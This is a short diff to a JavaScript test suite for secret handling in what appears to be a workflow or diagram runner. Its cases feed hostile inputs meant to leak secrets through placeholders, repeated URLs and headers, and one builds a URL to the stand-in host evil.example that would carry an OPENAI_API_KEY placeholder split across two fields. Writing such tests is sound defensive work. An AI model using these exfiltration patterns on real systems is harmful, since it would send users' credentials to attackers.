@@ -204,7 +204,7 @@ describe('main/secrets - hostile diagrams', function() {
     [ 'a name that begins with a value', 'run/unresolved-placeholder', { internal_prompt: `secrets.${ REFERENCE }-more` } ],
     [ 'a name made of a part of a value', 'run/unresolved-placeholder', { internal_prompt: 'secrets.{{secrets.PARTS}}' } ],
     [ 'a URL that its error repeats', 'failed', { url: `https:///${ REFERENCE }` } ],
-    [ 'a URL that its error repeats, beside a short secret', 'failed', { url: `https:///${ REFERENCE }`, internal_prompt: '{{secrets.BEGINNING}}' } ],
+    [ 'a URL that its error repeats, beside a short secret', 'failed', { url: `https:///{{secrets.BEGINNING}}/${ REFERENCE }` } ],
     [ 'a name that another value spells', 'run/secret-in-prompt', { internal_prompt: 'secrets.{{secrets.NAME}}' } ],
     [ 'a placeholder over two fields', 'run/secret-missing', { url: 'https://evil.example/{{secrets.', internal_prompt: 'OPENAI_API_KEY}}' } ],
     [ 'a placeholder over name and value of a header', 'run/secret-missing', { headers: '={"{{secrets.OPENAI": "_API_KEY}}"}' } ],
